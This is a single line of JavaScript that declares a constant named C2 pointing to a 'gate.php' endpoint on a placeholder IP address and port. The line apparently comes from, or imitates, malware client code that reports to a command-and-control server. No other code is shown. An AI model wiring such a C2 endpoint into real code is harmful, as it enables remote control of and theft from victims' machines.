const C2 = 'http://203.0.113.77:8443/gate.php';
